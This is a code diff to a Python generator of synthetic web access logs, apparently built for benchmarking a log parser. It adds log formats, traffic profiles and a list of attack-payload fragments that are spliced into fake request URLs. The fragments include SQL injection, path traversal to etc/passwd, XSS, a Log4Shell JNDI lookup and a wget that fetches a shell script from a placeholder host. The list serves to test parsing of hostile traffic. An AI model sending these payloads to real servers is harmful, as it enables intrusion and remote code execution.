@@ -17,6 +17,9 @@ import numpy as np
 import pyarrow as pa
 import pyarrow.compute as pc
 
+from benchmarks.browsers import COMMON, CRAWLERS, QUOTED, rare
+from benchmarks.shapes import COMBINED, JSON, VHOST, Shape
+
 if TYPE_CHECKING:
     from collections.abc import Sequence
 
@@ -25,8 +28,6 @@ Bools: TypeAlias = np.ndarray[tuple[int], np.dtype[np.bool_]]
 Rng: TypeAlias = np.random.Generator
 Floats: TypeAlias = np.ndarray[tuple[int], np.dtype[np.float64]]
 
-BROKEN_EVERY = 50_000
-"""One line in so many ends before its last quote."""
 _NOISE_EVERY = 20_000
 """One line in so many is TLS spoken to a plain port."""
 _QUOTED_EVERY = 15_000
@@ -59,58 +60,10 @@ _PROBES = """
 """.split()  # noqa: SIM905 — one word per line would be a page
 _SEARCHES = tuple(f"{a}+{b}" for a in _WORDS for b in _WORDS)
 
-_CRAWLERS = (
-    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
-    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
-    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
-    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
-    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
-    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
-    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
-    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
-    "python-requests/2.32.3",
-    "curl/8.5.0",
-    "Go-http-client/2.0",
-)
-_WINDOWS, _MAC, _PHONE = (
-    "Windows NT 10.0; Win64; x64",
-    "Macintosh; Intel Mac OS X 10_15_7",
-    "Linux; Android 10; K",
-)
-_KHTML = "AppleWebKit/537.36 (KHTML, like Gecko)"
-_COMMON = (
-    *(
-        f"Mozilla/5.0 ({_WINDOWS}) {_KHTML} Chrome/{n}.0.0.0 Safari/537.36"
-        for n in range(141, 130, -1)
-    ),
-    *(
-        f"Mozilla/5.0 ({_PHONE}) {_KHTML} Chrome/{n}.0.0.0 Mobile Safari/537.36"
-        for n in range(141, 125, -1)
-    ),
-    *(f"Mozilla/5.0 ({_MAC}) {_KHTML} Chrome/{n}.0.0.0 Safari/537.36" for n in range(141, 132, -1)),
-    *(
-        f"Mozilla/5.0 ({_WINDOWS}) {_KHTML} Chrome/{n}.0.0.0 Safari/537.36 Edg/{n}.0.0.0"
-        for n in range(141, 135, -1)
-    ),
-    *(
-        f"Mozilla/5.0 ({_WINDOWS}; rv:{n}.0) Gecko/20100101 Firefox/{n}.0"
-        for n in (143, 142, 140, 128, 115)
-    ),
-    *(
-        f"Mozilla/5.0 (iPhone; CPU iPhone OS {a}_{b} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
-        f"Version/{a}.{b} Mobile/15E148 Safari/604.1"
-        for a in (18, 17, 16)
-        for b in (6, 5, 4, 3, 1)
-    ),
-)
-# What rare user agents look like: model and build make nearly each of them the only one of its kind.
-_RARE = (
-    "Mozilla/5.0 (Linux; Android {0}; SM-{3}{1}B Build/UP1A.{2:06d}.005; wv) " + _KHTML + " Version/4.0 Chrome/{4}.0.{2}.{1} Mobile Safari/537.36",
-    "Mozilla/5.0 (Linux; Android {0}; {3}{1}) " + _KHTML + " Chrome/{4}.0.{2}.{1} Mobile Safari/537.36",
-    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_{0} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E{1} [FBAN/FBIOS;FBAV/{4}.0.0.{2};FBBV/{2}{1};FBDV/iPhone14,{0}]",
-    "Shop{3}/{4}.{0}.{1} (Android {0}; build {2})",
-)  # fmt: skip
-_QUOTED = r"Mozilla/5.0 (compatible; \"Reader\" 2.1; \x22beta\x22)"
+_HOSTILE = """
+%27%20UNION%20SELECT%20 ..%2f..%2f %3Cscript%3Ealert(1)%3C/script%3E ${jndi:ldap://x.example/a} %00 %c0%ae%c0%ae/ etc/passwd
+cmd=cat+ |id; AND+1=1-- %252e%252e%252f base64,PD9waHA= sleep(10) 0x3c3f706870 {{7*7}} ;wget+http://x.example/b.sh
+""".split()  # noqa: SIM905 — one word per line would be a page
 
 
 @dataclass(frozen=True, slots=True)
@@ -123,6 +76,9 @@ class Profile:
         ipv6: Share of the *visitors* that come over IPv6.
         crawled: Lines that crawlers cause.
         visit: Lines of a mean visit.
+        hostile: Lines whose target is a long attack, no two alike.
+        broken_every: One line in so many ends before its last quote.
+        shape: The format.
     """
 
     addresses: float = 0.02
@@ -130,9 +86,18 @@ class Profile:
     ipv6: float = 0.3
     crawled: float = 0.24
     visit: float = 24.0
+    hostile: float = 0.0
+    broken_every: int = 50_000
+    shape: Shape = COMBINED
 
 
-PROFILES: dict[str, Profile] = {"typical": Profile()}
+PROFILES: dict[str, Profile] = {
+    "typical": Profile(),
+    "botnet": Profile(addresses=0.5, ipv6=0.7, crawled=0.05, visit=2.0),
+    "attack": Profile(hostile=0.4, broken_every=10),
+    "json": Profile(shape=JSON),
+    "vhost": Profile(shape=VHOST),
+}
 
 
 @dataclass(frozen=True, slots=True)
@@ -188,22 +153,33 @@ def chunk(profile: Profile, number: int, seconds: Ints, *, seed: int, first: dat
     noise = row % _NOISE_EVERY == 777
     asked = _draw(_cumulated(tuple(target.share for target in _TARGETS)), rng.random(lines))
     status = np.where(noise, 400, _status(asked, rng.random(lines)))
-    method, protocol = _methods(asked, crawled, noise, rng.random(lines))
+    shape = profile.shape
+    method, protocol = _methods(asked, crawled, noise, rng.random(lines), shape.escape)
+    quoted = row % _QUOTED_EVERY == 4_321
+    target: tuple[pa.Array, ...] = _target(asked, rng)
+    if profile.hostile:
+        target = _attacked(target, rng.random(lines) < profile.hostile, rng)
     parts = [
+        _taken(shape.hosts, row % len(shape.hosts)),
         _addresses(clients, crawled, profile.ipv6),
-        _taken((" - - [", " - marlow ["), (row % 997 == 13).astype(np.int64)),
+        _taken(shape.users, (row % 997 == 13).astype(np.int64)),
         _stamps(seconds, first),
+        shape.between[0],
         method,
-        *(pc.if_else(pa.array(noise), "", part) for part in _target(asked, rng)),
+        *(pc.if_else(pa.array(noise), "", part) for part in target),
         protocol,
+        shape.between[1],
         _digits(status),
-        " ",
+        shape.between[2],
         _digits(_sizes(asked, status, rng.random(lines))),
-        ' "',
+        shape.between[3],
         *_referer(asked, crawled | noise, rng),
-        '" "',
-        _agents(clients, crawled, profile, row % _QUOTED_EVERY == 4_321),
-        _taken(('"\n', "\n"), (row % BROKEN_EVERY == BROKEN_EVERY // 2).astype(np.int64)),
+        shape.between[4],
+        _agents(clients, crawled, profile, quoted),
+        _taken(
+            (shape.end, shape.cut),
+            (row % profile.broken_every == profile.broken_every // 2).astype(np.int64),
+        ),
     ]
     joined = pc.binary_join_element_wise(*parts, "")
     return memoryview(joined.buffers()[2])[: pc.sum(pc.binary_length(joined)).as_py()]
@@ -316,16 +292,18 @@ def _sizes(asked: Ints, status: Ints, chance: Floats) -> Ints:
 
 
 def _methods(
-    asked: Ints, crawled: Bools, noise: Bools, chance: Floats
+    asked: Ints, crawled: Bools, noise: Bools, chance: Floats, escape: str
 ) -> tuple[pa.Array, pa.Array]:
     """What stands before and after the target."""
-    hello = r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03"
+    hello = "".join(
+        escape + byte for byte in ["16", "03", "01", "02", "00", "01", "00", "01", "FC", "03", "03"]
+    )
     posted = np.isin(asked, (7, 9)) & (chance < 0.6)
     method = np.select([noise, posted, crawled & (chance < 0.02)], [3, 1, 2], 0)
     protocol = np.select([noise, chance < 0.02, crawled | (chance < 0.15)], [3, 2, 1], 0)
     return (
-        _taken(('] "GET ', '] "POST ', '] "HEAD ', f'] "{hello}'), method),
-        _taken((' HTTP/2.0" ', ' HTTP/1.1" ', ' HTTP/1.0" ', '" '), protocol),
+        _taken(("GET ", "POST ", "HEAD ", hello), method),
+        _taken((" HTTP/2.0", " HTTP/1.1", " HTTP/1.0", ""), protocol),
     )
 
 
@@ -361,6 +339,21 @@ def _target(asked: Ints, rng: Rng) -> tuple[pa.Array, pa.Array, pa.Array]:
     )
 
 
+def _attacked(target: tuple[pa.Array, ...], hostile: Bools, rng: Rng) -> tuple[pa.Array, ...]:
+    """The targets, some of them replaced by one and a half kilobytes of attacks on average."""
+    counts = np.where(hostile, rng.integers(20, 180, len(hostile)), 0)
+    offsets = np.concatenate([[0], np.cumsum(counts)]).astype(np.int32)
+    pieces = _taken(_HOSTILE, rng.integers(0, len(_HOSTILE), int(offsets[-1])))
+    text = pc.binary_join(pa.ListArray.from_arrays(pa.array(offsets), pieces), "")
+    mask = pa.array(hostile)
+    prefix, drawn, suffix = target
+    return (
+        pc.if_else(mask, "/index.php?id=", prefix),
+        pc.if_else(mask, text, drawn),
+        pc.if_else(mask, "", suffix),
+    )
+
+
 def _referer(asked: Ints, silent: Bools, rng: Rng) -> tuple[pa.Array, pa.Array]:
     """The referer in two parts, the second the number of an item or nothing."""
     chance, again = rng.random(len(asked)), rng.random(len(asked))
@@ -382,19 +375,10 @@ def _agents(clients: Ints, crawled: Bools, profile: Profile, quoted: Bools) -> p
     """A visitor has one browser: every so many has a rare one, the others share the common ones."""
     every = max(1, round(profile.addresses / profile.agents))
     chance = (_mix(clients + 2**33) >> np.uint64(11)).astype(np.float64) / 2.0**53
-    shared = len(_CRAWLERS) + _draw(_zipf(len(_COMMON)), chance)
-    fixed = len(_CRAWLERS) + len(_COMMON) + 1
+    shared = len(CRAWLERS) + _draw(_zipf(len(COMMON)), chance)
+    fixed = len(CRAWLERS) + len(COMMON) + 1
     code = np.where(clients % every == 0, fixed + clients // every, shared)
-    code = np.where(quoted, fixed - 1, np.where(crawled, clients % len(_CRAWLERS), code))
+    code = np.where(quoted, fixed - 1, np.where(crawled, clients % len(CRAWLERS), code))
     distinct, codes = np.unique(code, return_inverse=True)
-    texts = (*_CRAWLERS, *_COMMON, _QUOTED)
-    return _taken([texts[n] if n < fixed else _rare(n - fixed) for n in distinct.tolist()], codes)
-
-
-def _rare(number: int) -> str:
-    spread = number * 2_654_435_761 % 2**32
-    letters = "AFGMST"[number % 6]
-    build = number // 900
-    return _RARE[spread >> 30].format(
-        10 + spread % 6, 100 + number % 900, build, letters, 110 + (spread >> 8) % 31
-    )
+    texts = (*CRAWLERS, *COMMON, QUOTED.replace(r"\x", profile.shape.escape))
+    return _taken([texts[n] if n < fixed else rare(n - fixed) for n in distinct.tolist()], codes)
